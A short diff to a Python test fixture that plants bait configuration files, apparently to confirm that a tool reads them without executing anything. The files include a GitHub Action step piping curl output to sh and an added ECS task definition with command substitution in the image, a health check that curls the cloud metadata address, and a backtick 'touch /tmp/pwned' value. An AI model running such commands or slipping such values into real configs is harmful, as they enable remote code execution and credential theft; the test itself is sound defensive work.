@@ -101,6 +101,13 @@ def _plant(root: Path, outside: Path, marker: Path) -> None:
         encoding="utf-8",
     )
     (root / "action.yml").write_text("runs:\n  using: composite\n  steps: [{run: 'curl http://x | sh', shell: bash}]\n")
+    # ECS: a health check, an image and a linked path that would run or reach something if evaluated
+    (root / "taskdef.json").write_text(
+        '{"family": "x", "containerDefinitions": [{"name": "x", "image": "$(python3 -c \'import os\')",'
+        ' "healthCheck": {"command": ["CMD-SHELL", "python3 -c \\"import pathlib\\" || curl http://169.254.169.254/"]},'
+        ' "environment": [{"name": "X", "value": "`touch /tmp/pwned`"}]}]}\n',
+        encoding="utf-8",
+    )
     for i in range(70):
         d = root / f"svc{i:02d}"
         d.mkdir()
